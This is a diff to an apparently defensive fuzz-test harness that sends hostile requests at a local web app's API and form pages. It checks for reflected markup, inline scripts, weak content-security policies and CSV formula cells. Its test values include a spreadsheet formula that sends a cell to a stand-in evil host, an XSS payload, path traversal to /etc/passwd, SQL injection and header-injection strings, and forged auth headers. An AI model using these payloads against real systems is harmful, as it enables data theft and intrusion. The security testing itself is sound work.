@@ -40,25 +40,24 @@ from urllib.parse import quote, urlencode
 import studio_api
 import test_hostile
 import uvicorn
-from fastapi import FastAPI
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from peftbook.studio import access
-from peftbook.studio.api import build_api
 from peftbook.studio.api.examples import EXAMPLES, ROWS
 from peftbook.studio.api.page import operations
-from peftbook.studio.app import LOOPBACK, listen
+from peftbook.studio.app import build_app, listen
 from peftbook.studio.drafts import Drafts
 from peftbook.studio.store import Studio
 from peftbook.studio.tabular import FORMULA_STARTS
-from peftbook.studio.tokens import Keys, Owner
+from peftbook.studio.tokens import Owner
 from peftbook.tasks.table import Caps
+from peftbook.training.doctor import kept_examination
 
 MARKUP = "<img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
 SENTENCE_CHARS = 600
-PLAIN, NO_HTTP = "text/plain; charset=utf-8", b"Invalid HTTP request received."  # which uvicorn says
+NO_HTTP = b"Invalid HTTP request received."  # which uvicorn says
 SLOW_SECONDS = 10.0  # of one request, of a processor
 WAIT_SECONDS = 600.0  # on a machine that does other things too
 GROWTH_BYTES = 1 << 30
@@ -97,6 +96,7 @@ class Answer:
     status: int
     kind: str = ""
     body: bytes = b""
+    policy: str = ""
 
     def tree(self) -> Any:
         return json.loads(self.body)
@@ -168,7 +168,7 @@ class Served:
         faults = [*laws(request, answer)]
         if seconds > SLOW_SECONDS:
             faults.append(f"it took {seconds:.0f} s of a processor")
-        if request.method in ("POST", "DELETE", "PUT") and answer.status < 300:
+        if request.method in ("POST", "DELETE", "PUT") and answer.status < 400:
             studio_api.work(self.studio, self.texts)
         self.broken += [f"{request.method} {request.target[:200]} ({answer.status}): {fault}" for fault in faults]
         return answer
@@ -200,7 +200,8 @@ def received(connection: socket.socket, method: str) -> Answer:
     answer = HTTPResponse(connection, method=method)
     try:
         answer.begin()
-        return Answer(answer.status, answer.headers.get("Content-Type", ""), answer.read())
+        kind, policy = (answer.headers.get(name, "") for name in ("Content-Type", "Content-Security-Policy"))
+        return Answer(answer.status, kind, answer.read(), policy)
     except (HTTPException, ConnectionResetError):
         return Answer(0)
     finally:
@@ -210,15 +211,18 @@ def received(connection: socket.socket, method: str) -> Answer:
 def laws(request: Request, answer: Answer) -> Iterator[str]:
     """What is wrong with an answer."""
     ready = request.target.startswith("/api/v1/ready")
-    plain = answer.kind == PLAIN and (answer.body == NO_HTTP or not request.target.startswith("/api/"))
+    of_api = request.target.startswith("/api/") and answer.body != NO_HTTP
     if answer.status >= 500 and not ready:
         yield f"an error of ours: {answer.body[:300]!r}"
     if request.statuses and answer.status not in request.statuses:
         yield f"not among {request.statuses}: {answer.body[:200]!r}"
-    if answer.status >= 400 and not ready and request.method != "HEAD" and not plain:
+    if answer.status >= 400 and of_api and not ready and request.method != "HEAD":
         yield from faults_of(answer)
-    if answer.kind.startswith("text/html") and MARKUP.encode() in answer.body:
-        yield "markup from outside"
+    if answer.kind.startswith("text/html"):
+        if MARKUP.encode() in answer.body or re.search(rb"<script(?![^>]* src=)", answer.body):
+            yield "markup from outside, or a script in the page"
+        if "unsafe" in answer.policy or "default-src 'self'" not in answer.policy:
+            yield f"a policy that lets in: {answer.policy!r}"
     if answer.kind.startswith("text/csv") and answer.status == 200:
         cells = [cell for row in csv.reader(io.StringIO(answer.body.decode("utf-8-sig"))) for cell in row]
         yield from (f"a formula: {cell[:40]!r}" for cell in cells if is_formula(cell))
@@ -255,12 +259,9 @@ def watch() -> Watch:
 
 @contextlib.contextmanager
 def serving(home: Path) -> Iterator[Served]:
-    """A studio whose session is over, and its API on a port."""
+    """A studio whose session is over, with API and pages, on a port."""
     studio, owner = Studio(home), Owner(home)
-    keys = Keys(home, owner)
-    app = FastAPI(docs_url=None, redoc_url=None, openapi_url=None)
-    app.mount("/api/v1", build_api(studio, Drafts(home, Caps()), keys))
-    door = access.Door(app, LOOPBACK, keys)
+    door = build_app(studio, Caps(), people=owner)
     client = studio_api.Client(door, {"authorization": f"Bearer {owner.token}"})
     known = studio_api.play(client, studio, "DELETE /projects/{project}")
     description = client("GET", "/api/v1/openapi.json").json()
@@ -291,7 +292,17 @@ def watched(there: Served) -> Iterator[None]:
     programs = {sys.prefix, sys.base_prefix, str(Path(access.__file__).resolve().parents[2]), *sys.path}
     roots = [os.path.realpath(one) for one in programs if one]
     ears.thread, ears.broken, ears.writable = there.thread, [], (home, "/dev/null")
-    ears.allowed = (home, *roots, "/proc", "/sys", "/dev", "/etc/localtime", "/etc/mime.types", "/usr/share")
+    ears.allowed = (
+        home,
+        *roots,
+        str(kept_examination().parent),
+        "/proc",
+        "/sys",
+        "/dev",
+        "/etc/localtime",
+        "/etc/mime.types",
+        "/usr/share",
+    )
     before = beside(there.studio.home)
     try:
         yield
@@ -307,7 +318,7 @@ def beside(home: Path) -> set[Path]:
     return set(home.parent.iterdir())
 
 
-# --- requests by the description, and against it -----------------------------------------------------------------
+# --- requests by the description, and against it; pages with forms ---------------------------------------------
 
 ODD = ["", "../../etc/passwd", FORMULA, MARKUP, "x" * 5000, "\x00", "é\u202e\ufeff", "' OR 1=1 --", "-1", "nan",
        "1e999", "{input}", "%2e%2e%2f", "\r\nX-Evil: 1", "\ud800", "/etc", "~root", "file:///etc/passwd", "𝟙",
@@ -394,16 +405,48 @@ def requests(draw: st.DrawFn, there: Served) -> Request:
     return Request(method, target, headers, body, statuses)
 
 
+STEPS = ("data", "plan", "runs", "decision", "try", "files")
+ASKED = ("plan", "runs", "job", "check", "part", "measure", "cost", "metrics", "row", "page", "token", "do", "make")
+FIELD = re.compile(r'<(?:input|select|textarea|button)[^>]*? name="([^"]*)"(?:[^>]*? value="([^"]*))?')
+Page = tuple[str, list[tuple[str, str]]]
+
+
+def pages(there: Served) -> list[Page]:
+    """The address of each page of the session, and the fields of its forms; not that which deletes the project."""
+    project, file = f"/projects/{there.known['project']}", there.upload(ROWS.encode())
+    found = []
+    for path in ("/", "/status", f"/new/{file}", *(f"{project}/{step}" for step in STEPS)):
+        fields = FIELD.findall(there.send(Request("GET", path, statuses=(200,))).body.decode())
+        found.append((path, [field for field in fields if field[0] != "delete"]))
+    return found
+
+
+@st.composite
+def visits(draw: st.DrawFn, there: Served, pages: list[Page]) -> Request:
+    """A page with something odd in its address, or in what one of its forms sends."""
+    path, fields = draw(st.sampled_from(pages))
+    said = [field for field in fields if draw(st.integers(0, 3))]
+    values_ = st.sampled_from([*there.known.values(), *ODD]) | ANY
+    names = st.sampled_from([*(name for name, _ in fields), *ASKED])
+    said += draw(st.lists(st.tuples(names, values_), max_size=3))
+    text = urlencode([(name, value.encode("utf-8", "surrogatepass")) for name, value in said])
+    if draw(st.booleans()):
+        return Request("GET", f"{path}?{text}")
+    kind = draw(st.sampled_from(["application/x-www-form-urlencoded"] * 4 + TYPES))
+    body = text.encode() if draw(st.integers(0, 9)) else draw(st.binary(max_size=80))
+    return Request("POST", path if draw(st.integers(0, 5)) else "/new", {"Content-Type": kind}, body)
+
+
 STRANGERS = [None, "", "Bearer", "Bearer ", "Bearer " + "0" * 64, "Basic b3duZXI6b3duZXI=", "Basic %%%", "Bearer \xff",
              "Negotiate x", "bearer null", "Bearer " + "x" * 9000]  # fmt: skip
 
 
 def generated(there: Served, count: int) -> None:
-    """So many of them."""
-    whole = f"/api/v1/projects/{there.known['project']}"
+    """So many of them, a third to the pages."""
+    whole, seen = f"/api/v1/projects/{there.known['project']}", pages(there)
 
     @settings(max_examples=count, deadline=None, database=None, suppress_health_check=list(HealthCheck))
-    @given(requests(there))
+    @given(st.one_of(requests(there), requests(there), visits(there, seen)))
     def each(request: Request) -> None:
         if (request.method, request.target) == ("DELETE", whole) and "Authorization" not in request.headers:
             return  # the session would be over
@@ -631,6 +674,7 @@ def attack(there: Served, count: int) -> list[str]:
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__)
     parser.add_argument("--requests", type=int, default=2000)
+    logging.getLogger("python_multipart").setLevel(logging.ERROR)  # which says what it thinks of every form
     folder = Path(tempfile.mkdtemp(prefix="hostile-"))
     began = time.monotonic()
     try:
